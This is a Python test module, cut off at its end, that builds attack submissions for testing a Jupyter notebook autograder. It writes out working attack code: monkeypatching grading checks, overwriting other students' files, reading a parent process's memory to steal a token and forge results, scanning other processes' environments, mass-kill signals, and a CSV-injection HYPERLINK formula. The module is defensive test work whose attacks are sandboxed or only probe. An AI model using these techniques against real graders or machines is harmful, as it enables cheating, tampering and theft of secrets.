"""Attack submissions for chapter 1 (``solutions/ch01_perceptron.ipynb``, 11 exercises): the corpus
that the grader (:mod:`course_lib.instructor.grade`) is tested against.

Each :class:`Attack` builds one submission from the solution notebook, the blank exercise notebook
and an :class:`AttackContext` (the paths of one grading run, all inside the test's temporary
folder), and says in its :class:`Expect` what a correct grader must do with it: the most points
it may get, whether it must be flagged, which files outside its own working copy must be
unchanged. Every audit attack of issue 16 (the audit's rows A14-A33) is here, tagged with its
row, and more of our own.

How an attack shows that it got through, without harm:

- Attacks that forge a grade (patched checks, a rebound ``checks``, the solutions read from
  disk, a forged result) show it as points they must not get.
- Attacks on other people's files aim only at files inside the test's folder (``ctx.victim``,
  ``ctx.gradebook``, ``ctx.outside``, ...): the test compares their hashes.
- Where a breach could not be shown harmlessly (writing into ``course_lib/`` or the instructor's
  home, the network off the loopback, signalling processes outside the sandbox, reading other
  processes' environment), the attack only *probes* (``os.access``, opening a file for append and
  writing nothing, a UDP ``connect`` that sends no packet, signal 0) and, when the probe
  succeeds, sets ``_attack_breach``: a *canary* in every exercise cell then runs the
  instructor's solution. So a breach shows as points, and nothing outside the test's folder is
  touched even when the grader fails.
- Processes an attack starts carry ``ctx.marker`` in their command line and end on their own
  within :data:`MAX_PROCESS_SECONDS`; at most :data:`MAX_PROCESSES` are started. Memory,
  output and files are bounded (``ctx.memory_limit_mb``; see each attack).
- Attacks that kill processes do so only when the kernel is visibly in a PID namespace of its
  own (:data:`IN_OWN_PID_NAMESPACE`) or the targets are visibly grader processes; otherwise
  they probe with signal 0.

The test that runs the grader should start it with ``TMPDIR`` inside ``ctx.tmp_root``, so that
the grader's own temporary files (working copies, job files) are inside the test's folder too.

Use::

    ctx = AttackContext.create(tmp_path, loopback_port=port)
    prepare(ctx, solution_nb, blank_nb)          # the victim, an older gradebook, solutions/
    for attack in ATTACKS:
        path = write_submission(attack, ctx, solution_nb, blank_nb)
    before = fingerprints(ctx)
    ... grade ctx.submissions into ctx.gradebook ...
    assert fingerprints(ctx) == before  # and per attack: attack.expect
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import re
import secrets
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat

ASSIGNMENT = "ch01_perceptron"
TOTAL_POINTS = 11.0
FIRST = "perceptron_epoch"  # the first exercise's function: where most attacks put their code
MAX_PROCESSES = 200
MAX_PROCESS_SECONDS = 240
#: The result MIME type of the kernel-side harness (an attacker reads it from the source).
RESULT_MIME = "application/vnd.course-grade+json"
#: What an attack may aim at outside its own working copy (see :class:`Expect`):
TARGETS = {
    "submissions": "every submitted file in ctx.submissions: same bytes after the run",
    "victim": "ctx.victim, another student's perfect submission: same bytes, and graded 11/11",
    "gradebook": "the gradebook that was in ctx.gradebook before the run is kept intact in its "
    "backup, and the new one holds no text the attack wrote",
    "solutions": "every file in ctx.solutions: same bytes",
    "outside": "every file in ctx.outside (which stands for the rest of the machine): same bytes, "
    "and no new file there",
    "library": "every file of the course_lib package: same bytes, and no new file there",
    "feedback": "every feedback page lies directly in the feedback folder, none is hidden "
    "(a dot-file), and nothing is written beside or above it",
    "csv": "no cell of the gradebook starts with = + - @, a tab or a carriage return",
}
EVERYWHERE = ("submissions", "victim", "gradebook", "solutions", "outside", "library")


@dataclasses.dataclass(frozen=True)
class AttackContext:
    """The paths of one grading run, all inside ``tmp_root``; passed to every attack's build."""

    tmp_root: Path  # the test's temporary folder: every file an attack may write lies inside
    submissions: Path  # the folder of submissions; each attack's file is written there
    victim: Path  # another student's perfect submission, in ``submissions``
    gradebook: Path  # the gradebook the run writes; an older one is there before
    feedback: Path  # the feedback folder of the run
    solutions: Path  # the solutions/ folder the grader reads
    outside: Path  # a folder that stands for the rest of the machine
    marker: str  # digits unique to this run: in the command line of every process started
    memory_limit_mb: float = 1500.0  # the run's --memory-limit
    loopback_port: int = 0  # a port on 127.0.0.1 where the test listens (0: none)

    @classmethod
    def create(
        cls, tmp_root: Path, *, memory_limit_mb: float = 1500.0, loopback_port: int = 0
    ) -> AttackContext:
        """A context with the usual layout under ``tmp_root`` (folders made, files not)."""
        tmp_root = Path(tmp_root).resolve()
        ctx = cls(
            tmp_root=tmp_root,
            submissions=tmp_root / "submissions",
            victim=tmp_root / "submissions" / f"victim_{ASSIGNMENT}.ipynb",
            gradebook=tmp_root / "grades" / "grades.csv",
            feedback=tmp_root / "grades" / "feedback",
            solutions=tmp_root / "course" / "solutions",
            outside=tmp_root / "outside",
            marker=str(10_000_000 + secrets.randbelow(89_999_999)),
            memory_limit_mb=memory_limit_mb,
            loopback_port=loopback_port,
        )
        for folder in (ctx.submissions, ctx.gradebook.parent, ctx.solutions, ctx.outside):
            folder.mkdir(parents=True, exist_ok=True)
        return ctx

    @property
    def sleep_args(self) -> list[str]:
        """Arguments of ``sleep`` that carry the marker: GNU sleep adds them up."""
        return [str(MAX_PROCESS_SECONDS - 1), f"0.{self.marker}"]


@dataclasses.dataclass(frozen=True)
class Expect:
    """What a correct grader must do with an attack.

    ``max_points``: the most it may get (the points of what it really solved; 0 for a notebook
    that solves nothing). ``min_points``: what it must still get for its honest work (None: no
    floor). ``flagged``: it must carry a flag in the gradebook (False: it may or may not).
    ``untouched``: the :data:`TARGETS` that must be as they were. ``reason``: a regular
    expression that the grader's reasons or notes for it should match (None: any).
    ``starts_processes``: its processes carry ``ctx.marker``; none may outlive the run.
    """

    max_points: float = 0.0
    min_points: float | None = None
    flagged: bool = True
    untouched: tuple[str, ...] = EVERYWHERE
    reason: str | None = None
    starts_processes: bool = False


@dataclasses.dataclass(frozen=True)
class Symlink:
    """A submission that is a symbolic link to ``target``, which holds ``notebook``."""

    target: Path
    notebook: Any


Built = dict | bytes | Symlink
Build = Callable[[Any, Any, AttackContext], Built]


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack submission: ``build(solution_nb, blank_nb, ctx)`` gives a notebook (a dict),
    raw bytes, or a :class:`Symlink`; ``audit`` is its row in the audit (None: one of ours);
    ``broken``: meant not to be a valid nbformat-4 notebook; ``probe``: shows a breach through
    the canary (see the module docstring)."""

    name: str
    description: str
    build: Build
    expect: Expect = Expect()
    audit: str | None = None
    broken: bool = False
    probe: bool = False

    @property
    def file_name(self) -> str:
        return f"{self.name}_{ASSIGNMENT}.ipynb"


# ------------------------------------------------------------------------------ building blocks


def _copy(nb: Any) -> Any:
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def _source(cell: Any) -> str:
    source = cell.get("source", "")
    return "".join(source) if isinstance(source, list) else source


def solution_cells(nb: Any) -> dict[str, Any]:
    """{function name: its code cell} for the notebook's solution cells (nbgrader metadata)."""
    found = {}
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            # the generator names a solution cell's grade_id after its function: f-code
            name = str(meta.get("grade_id", "")).removesuffix("-code")
            if re.search(rf"^def\s+{re.escape(name)}\s*\(", _source(cell), re.M):
                found[name] = cell
    return found


def exercise_points(nb: Any) -> dict[str, float]:
    """{grade_id: points} of the notebook's autograded test cells."""
    return {
        cell.metadata["nbgrader"]["grade_id"]: float(cell.metadata["nbgrader"]["points"])
        for cell in nb.cells
        if cell.cell_type == "code" and cell.get("metadata", {}).get("nbgrader", {}).get("grade")
    }


def _edit(nb: Any, function: str, make: Callable[[str], str]) -> Any:
    """A copy of ``nb`` whose cell defining ``function`` gets ``make(old source)``."""
    nb = _copy(nb)
    cell = solution_cells(nb)[function]
    cell.source = make(_source(cell))
    return nb


def _append(nb: Any, function: str, code: str) -> Any:
    return _edit(nb, function, lambda old: old.rstrip("\n") + "\n\n\n" + code.strip("\n") + "\n")


def _prepend(nb: Any, function: str, code: str) -> Any:
    return _edit(nb, function, lambda old: code.strip("\n") + "\n\n\n" + old)


BREACH = "_attack_breach"


def with_canary(solution_nb: Any, blank_nb: Any) -> Any:
    """The blank notebook where every exercise cell runs the instructor's solution for its
    function if, and only if, ``_attack_breach`` is set: a breach shows as points."""
    nb = _copy(blank_nb)
    solved = solution_cells(solution_nb)
    for function, cell in solution_cells(nb).items():
        cell.source = (
            _source(cell).rstrip("\n")
            + f"\n\n\nif globals().get({BREACH!r}):\n"
            + f"    exec({_source(solved[function])!r}, globals())\n"
        )
    return nb


def _probe(code: str) -> Build:
    """An attack that only probes for a breach: ``code`` sets ``_attack_breach = True`` when it
    finds one (it runs first, in the first exercise's cell); the canary does the rest."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        body = code.format(ctx=ctx, breach=BREACH)
        return _prepend(with_canary(solution_nb, blank_nb), FIRST, f"{BREACH} = False\n{body}")

    return build


def _in_first(code: str, function: str = FIRST, base: str = "blank") -> Build:
    """An attack whose ``code`` (a format string with ``ctx``) follows the stub of one cell."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        nb = solution_nb if base == "solution" else blank_nb
        return _append(nb, function, code.format(ctx=ctx, mime=RESULT_MIME))

    return build


def _in_every_cell(code: str) -> Build:
    """``code`` after the stub of every exercise cell; ``{function}`` names the cell's function."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        nb = _copy(blank_nb)
        for function in solution_cells(nb):
            nb = _append(nb, function, code.format(ctx=ctx, function=function))
        return nb

    return build


def _named(name: Callable[[AttackContext], str], base: str = "solution") -> Build:
    """The perfect (or blank) notebook with ``metadata.course.student`` set to ``name(ctx)``."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        nb = _copy(solution_nb if base == "solution" else blank_nb)
        nb.metadata.setdefault("course", {})
        nb.metadata["course"] = {**blank_nb.metadata.get("course", {}), "student": name(ctx)}
        return nb

    return build


#: True when the kernel is visibly in a PID namespace of its own (its parent is the namespace's
#: init and it sees only a handful of processes): only then may an attack send real kill
#: signals to "every process". Elsewhere it probes with signal 0.
IN_OWN_PID_NAMESPACE = """\
import os as _os
_pids = [int(_p) for _p in _os.listdir('/proc') if _p.isdigit()]
_inside = _os.getppid() in (0, 1) and len(_pids) <= 16
"""

#: Processes that belong to the grader (the worker, a kernel, the sandbox): an attack may
#: really signal these, since they are the grading run's own.
GRADER_PROCESS = """\
def _cmdline(_pid):
    try:
        with open(f'/proc/{{_pid}}/cmdline', 'rb') as _f:
            return _f.read().replace(b'\\0', b' ').decode('utf-8', 'replace')
    except OSError:
        return ''


def _is_grader(_pid):
    _c = _cmdline(_pid)
    return any(_s in _c for _s in ('course_lib.instructor.grade', 'ipykernel', 'bwrap'))
"""


def _forged_result(solution_nb: Any) -> dict[str, Any]:
    exercises = [
        {"grade_id": gid, "title": "", "points": p, "possible": p, "reason": ""}
        for gid, p in exercise_points(solution_nb).items()
    ]
    return {"token": "?", "exercises": exercises, "flags": [], "notes": [], "points": exercises}


# ------------------------------------------------------------------------------ the audit's


CHECK_NAMES = (
    "perceptron_epoch perceptron_updates cycle_period xor_features xor_relu_network "
    "sigmoid_prime tanh_prime grid_argmax ex9_output ex9_grad_x1 hinge_epoch"
).split()

_PASS_MODULE = """\
import types as _types


class _Pass(_types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
"""

_NO_OP_CHECKS = f"""\
import course_lib.checks as _real_checks

for _name in {CHECK_NAMES!r}:
    setattr(_real_checks, _name, lambda *args, **kwargs: None)
"""


def _a18(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        f"for _p in [{str(ctx.victim)!r}, {str(ctx.gradebook)!r}]:\n"
        "    try:\n"
        "        with open(_p, 'w') as _f:\n"
        f"            _f.write('OVERWRITTEN BY QUINN {ctx.marker}')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    return _append(blank_nb, FIRST, code)


def _a19(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import json as _json, os as _os, course_lib as _cl\n"
        "for _p in [_os.path.join(_os.path.dirname(_os.path.dirname(_cl.__file__)), "
        "'solutions', 'ch01_perceptron.ipynb'), "
        + repr(str(ctx.solutions / f"{ASSIGNMENT}.ipynb"))
        + "]:\n"
        "    try:\n"
        "        with open(_p) as _f:\n"
        "            _cells = _json.load(_f)['cells']\n"
        "    except (OSError, ValueError):\n"
        "        continue\n"
        "    for _c in _cells:\n"
        "        _s = ''.join(_c['source'])\n"
        "        if _c['cell_type'] == 'code' and _s.startswith('def {function}('):\n"
        "            exec(_s, globals())\n"
        "    break\n"
    )
    code = code.replace("{", "{{").replace("}", "}}").replace("{{function}}", "{function}")
    return _in_every_cell(code)(solution_nb, blank_nb, ctx)


def _a23(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    args = ctx.sleep_args
    code = (
        "import subprocess as _sp\n"
        "for _ in range(20):\n"
        f"    _sp.Popen(['sleep', *{args!r}], stdin=_sp.DEVNULL, stdout=_sp.DEVNULL)\n"
        f"_sp.Popen(['setsid', 'sleep', *{args!r}], stdin=_sp.DEVNULL, stdout=_sp.DEVNULL)\n"
        f"_sp.Popen('nohup sleep {' '.join(args)} >/dev/null 2>&1 &', shell=True)\n"
    )
    return _append(blank_nb, FIRST, code)


def _a24(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    chunks = int(ctx.memory_limit_mb * 1.5 / 64) + 1  # 1.5 times the limit, then it lets go
    code = (
        "import time as _time\n"
        "_hog = []\n"
        f"for _ in range({chunks}):\n"
        "    _hog.append(b'x' * (64 << 20))  # written, so resident\n"
        "_time.sleep(3)\n"
        "_hog.clear()\n"
    )
    return _append(blank_nb, FIRST, code)


def _a33(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    forged = json.dumps(_forged_result(solution_nb))
    code = (
        "import os as _os, signal as _signal\n"
        + GRADER_PROCESS.replace("{{", "{").replace("}}", "}")
        + "_me = _os.getppid()\n"
        f"_forged = {forged!r}\n"
        "_argv = _cmdline(_me).split(' ')\n"
        "for _a in _argv:  # a job or result file named on the worker's command line\n"
        f"    if _a.endswith('.json') and _a.startswith({str(ctx.tmp_root)!r}):\n"
        "        try:\n"
        "            with open(_a, 'w') as _f:\n"
        "                _f.write(_forged)\n"
        "        except OSError:\n"
        "            pass\n"
        "if '--worker' in _argv:  # the worker's result pipe, through /proc\n"
        "    try:\n"
        "        _fd = int(_argv[_argv.index('--worker') + 1])\n"
        "        with open(f'/proc/{_me}/fd/{_fd}', 'w') as _f:\n"
        "            _f.write(_forged)\n"
        "    except (OSError, ValueError, IndexError):\n"
        "        pass\n"
        "if _is_grader(_me):  # kill the worker (only ever a grader's process)\n"
        "    try:\n"
        "        _os.kill(_me, _signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    return _append(blank_nb, FIRST, code)


def _a31(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Symlink:
    return Symlink(ctx.outside / f"elsewhere_{ASSIGNMENT}.ipynb", _copy(solution_nb))


def _wrong(nb: Any, function: str, body: str) -> Any:
    """``function`` defined with a wrong one-line body."""

    def make(old: str) -> str:
        head = re.search(rf"^def {function}\(.*?\):\n", old, re.M | re.S)
        assert head is not None, function
        return f"{head[0]}    {body}\n"

    return _edit(nb, function, make)


AUDIT_ATTACKS = [
    Attack(
        "nina",
        "monkeypatches course_lib.checks.tanh_prime and checks.perceptron.tanh_prime to no-ops; "
        "tanh_prime unsolved",
        _in_first(
            "import course_lib.checks as _c, course_lib.checks.perceptron as _cp\n"
            "_c.tanh_prime = _cp.tanh_prime = lambda *args, **kwargs: None\n",
            "tanh_prime",
        ),
        audit="A14",
    ),
    Attack(
        "oscar",
        "patches numpy.allclose and numpy.isfinite to always pass, with a wrong tanh_prime",
        lambda s, b, ctx: _append(
            _wrong(b, "tanh_prime", "return v"),
            "tanh_prime",
            "import numpy as _np\n"
            "_np.allclose = lambda *args, **kwargs: True\n"
            "_np.isfinite = lambda x, *args, **kwargs: _np.ones(_np.shape(x), bool)\n",
        ),
        audit="A15",
    ),
    Attack(
        "pat",
        "rebinds the notebook's global `checks` to an object whose every check passes; nothing "
        "solved",
        _in_first(
            _PASS_MODULE.replace("{", "{{").replace("}", "}}") + "\nchecks = _Pass('checks')\n"
        ),
        audit="A16",
    ),
    Attack(
        "pat2",
        "redefines CheckFailed in course_lib.checks and replaces builtins.AssertionError",
        _in_first(
            "import builtins as _b, course_lib.checks as _c\n\n\n"
            "class CheckFailed(Exception):\n    pass\n\n\n"
            "_c.CheckFailed = CheckFailed\n_b.AssertionError = CheckFailed\n"
        ),
        audit="A17",
    ),
    Attack(
        "quinn",
        "overwrites another student's submission and the gradebook path",
        _a18,
        expect=Expect(untouched=EVERYWHERE),
        audit="A18",
    ),
    Attack(
        "rita",
        "reads solutions/ch01_perceptron.ipynb from disk (found from course_lib.__file__, and at "
        "the path the grader reads) and execs each solution cell",
        _a19,
        audit="A19",
    ),
    Attack(
        "tom",
        "os._exit(0) in the tanh_prime cell (the kernel dies in the student's own cell)",
        _in_first("import os as _os\n_os._exit(0)\n", "tanh_prime"),
        expect=Expect(flagged=False, reason=r"kernel died|died"),
        audit="A21",
    ),
    Attack(
        "vic",
        "starts 20 `sleep` children, one under setsid and one under nohup &, to outlive the kernel",
        _a23,
        expect=Expect(starts_processes=True),
        audit="A23",
    ),
    Attack(
        "wes",
        "allocates and writes 1.5 times the memory limit, holds it 3 s, then lets go",
        _a24,
        expect=Expect(flagged=False, reason=r"memory"),
        audit="A24",
    ),
    Attack(
        "xena",
        "prints 500 lines of 1 MB each",
        _in_first("for _ in range(500):\n    print('x' * 1_000_000)\n"),
        expect=Expect(flagged=False, reason=r"printed more than|output"),
        audit="A25",
    ),
    Attack(
        "trav",
        "a perfect notebook whose student name is ../<marker>-escaped (path traversal)",
        _named(lambda ctx: f"../{ctx.marker}-escaped"),
        expect=Expect(
            max_points=11, min_points=11, flagged=False, untouched=(*EVERYWHERE, "feedback")
        ),
        audit="A28",
    ),
    Attack(
        "csvinj",
        'a perfect notebook whose student name is =HYPERLINK("http://example.invalid/?"&A3,"x")',
        _named(lambda ctx: '=HYPERLINK("http://example.invalid/?"&A3,"x")'),
        expect=Expect(max_points=11, min_points=11, flagged=False, untouched=(*EVERYWHERE, "csv")),
        audit="A29",
    ),
    Attack(
        "sym",
        "the submission is a symbolic link to a perfect notebook outside the submissions folder",
        _a31,
        expect=Expect(max_points=11),
        audit="A31",
    ),
    Attack(
        "mallory",
        "forges a full-marks result: finds the worker through /proc/<ppid>/cmdline, writes to its "
        "result pipe (or job file), then SIGKILLs it; nothing solved",
        _a33,
        audit="A33",
    ),
]


# ------------------------------------------------------------------------------ our own


def _read_submissions(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import glob as _glob, json as _json\n"
        f"for _p in sorted(_glob.glob({str(ctx.submissions)!r} + '/**/*.ipynb', recursive=True)):\n"
        "    try:\n"
        "        with open(_p) as _f:\n"
        "            _cells = _json.load(_f)['cells']\n"
        "    except (OSError, ValueError, KeyError, TypeError):\n"
        "        continue\n"
        "    _done = False\n"
        "    for _c in _cells:\n"
        "        _s = ''.join(_c.get('source', ''))\n"
        "        if _s.startswith('def {function}(') and 'NotImplementedError' not in _s:\n"
        "            exec(_s, globals())\n"
        "            _done = True\n"
        "    if _done:\n"
        "        break\n"
    )
    code = code.replace("{", "{{").replace("}", "}}").replace("{{function}}", "{function}")
    return _in_every_cell(code)(solution_nb, blank_nb, ctx)


def _settrace(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import linecache as _lc, sys as _sys, threading as _th\n\n\n"
        "def _local(frame, event, arg):\n"
        "    if event == 'line':\n"
        "        _text = _lc.getline(frame.f_code.co_filename, frame.f_lineno).strip()\n"
        "        if _text.startswith('raise'):\n"
        "            try:\n"
        "                frame.f_lineno = frame.f_lineno + 1  # jump over the raise\n"
        "            except ValueError:\n"
        "                pass\n"
        "    return _local\n\n\n"
        "def _global(frame, event, arg):\n"
        "    return _local\n\n\n"
        "_sys.settrace(_global)\n"
        "_th.settrace(_global)\n"
    )
    return _append(blank_nb, FIRST, code)


def _harness_globals(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import importlib as _il\n\n"
        "for _key, _value in list(globals().items()):\n"
        "    if _key.startswith('_g') and hasattr(_value, 'passed') and hasattr(_value, 'begin'):\n"
        "        _grader = _value\n"
        "        _nonce = getattr(_grader, '_nonce', '')\n"
        "        try:\n"
        "            _mime = _il.import_module(type(_grader).__module__).MIME\n"
        "        except Exception:\n"
        f"            _mime = {RESULT_MIME!r}\n"
        "        from IPython.display import display as _display\n\n"
        "        def _begin(grade_id, _names={names!r}):\n"
        "            import course_lib.checks as _c\n"
        "            for _n in _names:\n"
        "                setattr(_c, _n, lambda *args, **kwargs: None)\n\n"
        "        def _passed(grade_id, _mime=_mime, _nonce=_nonce, _display=_display):\n"
        "            _display({{_mime: {{'nonce': _nonce, 'grade_id': grade_id}}, "
        "'text/plain': 'passed'}}, raw=True)\n\n"
        "        _grader.begin, _grader.passed = _begin, _passed\n"
    ).format(names=CHECK_NAMES)
    return _append(blank_nb, FIRST, code)


def _harness_gc(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import gc as _gc\n\n"
        "for _o in _gc.get_objects():\n"
        "    if type(_o).__name__ == 'Grader' and hasattr(_o, '_verify'):\n"
        "        _o._verify = lambda *args, **kwargs: None\n"
        "        for _n in ('_snapshot', '_hooks', '_tracing'):\n"
        "            if hasattr(_o, _n):\n"
        "                setattr(_o, _n, None)\n" + _NO_OP_CHECKS
    )
    return _append(blank_nb, FIRST, code)


def _process_flood(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import subprocess as _sp\n"
        f"for _ in range({MAX_PROCESSES}):\n"
        "    try:\n"
        f"        _sp.Popen(['sleep', *{ctx.sleep_args!r}], stdin=_sp.DEVNULL, "
        "stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)\n"
        "    except OSError:  # a process limit: the bomb stops here\n"
        "        break\n"
    )
    return _append(blank_nb, FIRST, code)


def _huge_files(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = (
        "import os as _os\n"
        "with open('sparse.bin', 'wb') as _f:  # 64 GiB that take no disk\n"
        "    _f.truncate(64 << 30)\n"
        "with open('dense.bin', 'wb') as _f:  # 256 MiB that do\n"
        "    for _ in range(64):\n"
        "        _f.write(b'x' * (4 << 20))\n"
        "_os.makedirs('many', exist_ok=True)\n"
        "for _i in range(5000):\n"
        "    open(f'many/{_i}.ipynb', 'w').close()\n"
        "_os.symlink('/', 'root-link')  # a link out of the working copy\n"
    )
    return _append(blank_nb, FIRST, code)


def _token_thief(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    forged = json.dumps(_forged_result(solution_nb))
    code = (
        "import os as _os, re as _re\n"
        "_me = _os.getppid()\n"
        "_token, _read = None, 0\n"
        "try:\n"
        "    with open(f'/proc/{_me}/maps') as _maps, open(f'/proc/{_me}/mem', 'rb') as _mem:\n"
        "        for _line in _maps:\n"
        "            _range, _perms = _line.split()[:2]\n"
        "            if 'r' not in _perms or _read > (256 << 20):\n"
        "                continue\n"
        "            _lo, _hi = (int(_x, 16) for _x in _range.split('-'))\n"
        "            if _hi - _lo > (64 << 20):\n"
        "                continue\n"
        "            try:\n"
        "                _mem.seek(_lo)\n"
        "                _chunk = _mem.read(_hi - _lo)\n"
        "            except (OSError, ValueError, OverflowError):\n"
        "                continue\n"
        "            _read += len(_chunk)\n"
        '            _m = _re.search(rb\'"token": "([0-9a-f]{32})"\', _chunk)\n'
        "            if _m:\n"
        "                _token = _m[1].decode()\n"
        "                break\n"
        "except OSError:\n"
        "    pass\n"
        "if _token:\n"
        f"    {BREACH} = True  # the parent's secret is readable: a breach by itself\n"
        f"    _forged = {forged!r}.replace('\"?\"', '\"' + _token + '\"', 1)\n"
        "    try:\n"
        "        _argv = open(f'/proc/{_me}/cmdline').read().split('\\0')\n"
        "        _fd = int(_argv[_argv.index('--worker') + 1])\n"
        "        with open(f'/proc/{_me}/fd/{_fd}', 'w') as _f:\n"
        "            _f.write(_forged)\n"
        "    except (OSError, ValueError, IndexError):\n"
        "        pass\n"
    )
    code = code.replace("{", "{{").replace("}", "}}")
    return _probe(code)(solution_nb, blank_nb, ctx)


def _net_loopback_probe(ctx: AttackContext) -> str:
    ports = [ctx.loopback_port] if ctx.loopback_port else []
    return (
        "import socket as _socket\n"
        f"for _port in {ports!r}:\n"
        "    try:\n"
        "        with _socket.create_connection(('127.0.0.1', _port), timeout=3) as _s:\n"
        f"            _s.sendall(b'attack {ctx.marker}\\n')\n"
        f"        {BREACH} = True\n"
        "    except OSError:\n"
        "        pass\n"
    )


def _net_loopback(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
    code = _net_loopback_probe(ctx).replace("{", "{{").replace("}", "}}")
    return _probe(code)(solution_nb, blank_nb, ctx)


_NET_EXTERNAL = """\
import socket as _socket
try:  # a UDP connect sends no packet: it only asks whether a route exists
    _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _s.connect(('192.0.2.1', 9))  # TEST-NET-1 (RFC 5737)
    _s.close()
    {breach} = True
except OSError:
    pass
"""

_WRITE_LIBRARY = """\
import os as _os, course_lib as _cl
_dir = _os.path.dirname(_os.path.realpath(_cl.__file__))
for _name in ('__init__.py', _os.path.join('checks', '__init__.py')):
    try:  # opened for writing, nothing written: contents and times stay as they are
        _os.close(_os.open(_os.path.join(_dir, _name), _os.O_WRONLY | _os.O_APPEND))
        {breach} = True
    except OSError:
        pass
if _os.access(_dir, _os.W_OK):
    {breach} = True
"""

_WRITE_HOME = """\
import os as _os, pwd as _pwd
try:
    _home = _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir)
except (KeyError, OSError):
    _home = None
_here = _os.path.realpath(_os.getcwd())
# (a sandbox may show an empty folder at that path, made to hold a bind below it: only the
# files of a real home count)
if _home and _home != '/' and not _here.startswith(_home) and _os.path.isdir(_home):
    for _name in ('.bashrc', '.profile', '.ssh/authorized_keys'):
        try:  # opened for writing, nothing written; never created
            _os.close(_os.open(_os.path.join(_home, _name), _os.O_WRONLY | _os.O_APPEND))
            {breach} = True
        except OSError:
            pass
"""

_PROC_ENVIRON = """\
import os as _os
_mine = {{_os.getpid()}}
for _p in _os.listdir('/proc'):
    if not _p.isdigit() or int(_p) in _mine or int(_p) == 1:
        continue
    try:
        with open(f'/proc/{{_p}}/environ', 'rb') as _f:
            if b'PATH=' in _f.read():  # another process's environment: tokens, keys
                {breach} = True
                break
    except OSError:
        pass
"""

_KILLPG = (
    "import os as _os, signal as _signal\n"
    + GRADER_PROCESS
    + """\
_parent = _os.getppid()
try:
    _group = _os.getpgid(_parent)
    _members = []
    for _p in _os.listdir('/proc'):
        try:
            if _p.isdigit() and _os.getpgid(int(_p)) == _group:
                _members.append(int(_p))
        except OSError:
            pass
    if _members and all(_is_grader(_p) for _p in _members):
        _os.killpg(_group, _signal.SIGKILL)  # the grader's own processes only
    else:
        _os.kill(_parent, 0)  # signal 0: could have killed it
        {breach} = True
except OSError:
    pass
"""
)

_KILL_ALL = (
    "import signal as _signal\n"
    + IN_OWN_PID_NAMESPACE
    + """\
if _inside:
    try:
        _os.kill(-1, _signal.SIGKILL)  # kill -9 -1: every process it can signal
    except OSError:
        pass
else:
    for _p in _pids:
        if _p in (1, _os.getpid(), _os.getppid()):
            continue
        try:
            _os.kill(_p, 0)  # signal 0: could have killed it
            {breach} = True
            break
        except OSError:
            pass
"""
)

_KERNEL_HIJACK = """\
import glob as _glob, os as _os, json as _json
try:
    import ipykernel as _ik
    _own = _os.path.realpath(_ik.get_connection_file())
except Exception:
    _own = ''
_dirs = [_os.path.dirname(_own)] if _own else []
_dirs.append(_os.path.dirname(_dirs[0]) if _dirs else '')
try:
    from jupyter_core.paths import jupyter_runtime_dir
    _dirs.append(jupyter_runtime_dir())
except Exception:
    pass
for _d in filter(None, _dirs):
    for _f in _glob.glob(_os.path.join(_d, '*kernel*.json')) + _glob.glob(
        _os.path.join(_d, '*', '*kernel*.json')
    ):
        if _os.path.realpath(_f) == _own:
            continue
        try:
            with open(_f) as _h:
                if 'key' in _json.load(_h):  # enough to run code in that kernel
                    {breach} = True
        except (OSError, ValueError):
            pass
"""

_NEIGHBOURS = """\
import os as _os
_here = _os.path.realpath(_os.getcwd())
for _up in (_os.path.dirname(_here), _os.path.dirname(_os.path.dirname(_here))):
    try:
        _names = _os.listdir(_up)
    except OSError:
        continue
    for _name in _names:
        _path = _os.path.join(_up, _name)
        if _name.startswith('course-grade') and not _here.startswith(_path + _os.sep):
            try:  # another submission's working copy (its home folder), not a shared cache
                _os.listdir(_os.path.join(_path, 'home'))
                {breach} = True
            except OSError:
                pass
"""

_HIDDEN_TESTS = """\
import glob as _glob, os as _os, course_lib as _cl
_beside = _os.path.dirname(_os.path.dirname(_cl.__file__))
_roots = [{solutions!r}, _os.path.join(_beside, 'solutions')]
_here = _os.path.realpath(_os.getcwd())
_roots += [_os.path.dirname(_here), _os.path.dirname(_os.path.dirname(_here))]
_seen = 0
for _root in _roots:
    for _p in _glob.glob(_os.path.join(_root, '**', '*.ipynb'), recursive=True)[:200]:
        _seen += 1
        try:
            with open(_p) as _f:
                if '### BEGIN HIDDEN TESTS' in _f.read():
                    {breach} = True
        except OSError:
            pass
"""

_TTY = """\
import os as _os
try:
    _os.close(_os.open('/dev/tty', _os.O_RDWR))  # a terminal to type into (TIOCSTI)
    {breach} = True
except OSError:
    pass
"""

_TMPFS_FILL = """\
import os as _os, tempfile as _tempfile
_d = _tempfile.gettempdir()
_mounts = open('/proc/self/mounts').read().split('\\n')
